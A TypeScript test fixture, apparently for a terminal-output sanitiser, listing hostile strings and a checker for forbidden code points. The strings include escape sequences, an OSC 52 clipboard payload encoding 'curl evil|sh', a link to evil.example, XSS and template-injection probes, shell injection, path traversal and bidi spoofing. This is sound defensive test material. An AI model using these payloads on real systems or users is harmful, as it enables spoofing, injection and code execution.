const esc = "\u001b";
const bell = "\u0007";

/** Text that steers a terminal, breaks lines and tables, hides, turns text round, or is code elsewhere. */
export const hostileStrings: Readonly<Record<string, string>> = {
  "clear screen (CSI)": `${esc}[2J${esc}[H`,
  "blink and conceal (CSI)": `${esc}[5m${esc}[8mhidden`,
  "256 colours (CSI)": `${esc}[38;5;196mred`,
  "cursor movement (CSI)": `${esc}[10A${esc}[1000Dover`,
  "scroll region and modes (CSI)": `${esc}[1;2r${esc}[?1049h${esc}[?25l`,
  "device report (CSI)": `${esc}[6n${esc}[c${esc}[>c`,
  "window operations (CSI)": `${esc}[8;1;1t${esc}[21t`,
  "title (OSC 0)": `${esc}]0;owned${bell}`,
  "title with ST (OSC 2)": `${esc}]2;owned${esc}\\`,
  "link (OSC 8)": `${esc}]8;;http://evil.example${esc}\\click${esc}]8;;${esc}\\`,
  "clipboard (OSC 52)": `${esc}]52;c;Y3VybCBldmlsfHNo${bell}`,
  "notification (OSC 9 and 777)": `${esc}]9;hi${bell}${esc}]777;notify;a;b${bell}`,
  "OSC without an end": `${esc}]0;swallow the rest`,
  "device control (DCS)": `${esc}P+q544e${esc}\\`,
  "application command (APC), privacy message (PM), start of string (SOS)": `${esc}_Gx${esc}\\${esc}^x${esc}\\${esc}Xx${esc}\\`,
  "reset (RIS) and character sets": `${esc}c${esc}(0${esc}%G`,
  "eight-bit CSI, OSC and DCS (C1)": "\u009b2J\u009d0;owned\u009c\u0090q\u009c\u0085",
  "nested sequences": `${esc}${esc}[2J[2J${esc}[${esc}[31m2J`,
  "escape at the end": `tail${esc}`,
  "line forging": "first\r\nINFO forged line\n\u2028forged\u2029forged",
  "overwriting (CR, backspace, delete)": "good\rbad\b\b\bworse\u007f\u007f",
  "bell, vertical tab, form feed, NUL": "\u0000\u0007\u000b\u000c\u001a",
  "right to left override": "abc\u202etxt.exe\u202c",
  "isolates and marks": "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
  "zero width": "pay\u200bpal\u200c\u200d\u2060\ufeff\u00ad",
  "tags block": "plain\u{e0001}\u{e0069}\u{e006e}\u{e007f}",
  "fillers and ignorables": "\u034f\u115f\u3164\uffa0\u180e\u2800\u{e0100}",
  "halves of surrogate pairs": "\ud83d x \ude00",
  HTML: `<img src=x onerror=alert(1)><script>alert(1)</script>"'&<!--`,
  "attributes and templates": `" onmouseover="alert(1)" x="\${7*7}{{7*7}}`,
  "shell and options": "--help; $(touch owned) `touch owned` | sh #",
  paths: "../../../../etc/passwd\u0000.txt",
  "JSON with sequences in keys": `{"${esc}[2J":"${esc}]0;x${bell}","__proto__":{"a":1}}`,
  "format directives": "%s %d %n %x %1000000s",
  "a long line": `${"W".repeat(600)}${esc}[2J`,
};

/** Code points, from and to, that must not be there. */
const rawRanges: readonly (readonly [from: number, to: number])[] = [
  [0x00, 0x08],
  [0x0b, 0x1f],
  [0x7f, 0x9f],
  [0xad, 0xad],
  [0x34f, 0x34f],
  [0x61c, 0x61c],
  [0x115f, 0x1160],
  [0x180e, 0x180e],
  [0x200b, 0x200f],
  [0x2028, 0x202e],
  [0x2060, 0x206f],
  [0x2800, 0x2800],
  [0x3164, 0x3164],
  [0xd800, 0xdfff],
  [0xfeff, 0xfeff],
  [0xffa0, 0xffa0],
  [0xe0000, 0xe0fff],
];

/** What is raw in a text, told without the help of what is tested; null: nothing. */
export function rawIn(text: string): string | null {
  let at = 0;
  for (const character of text) {
    const code = character.codePointAt(0) ?? 0;
    if (rawRanges.some(([from, to]) => code >= from && code <= to)) {
      return `U+${code.toString(16)} in ${JSON.stringify(text.slice(Math.max(0, at - 40), at + 20))}`;
    }
    at += character.length;
  }
  return null;
}

/** Without the colours of our own, and the line that a terminal shows while it waits. */
export function withoutOwnSequences(text: string): string {
  const colours = [1, 2, 22, 31, 32, 33, 36, 39].map((code) => `${esc}[${code}m`);
  return [...colours, `\r${esc}[K`].reduce((rest, sequence) => rest.replaceAll(sequence, ""), text);
}
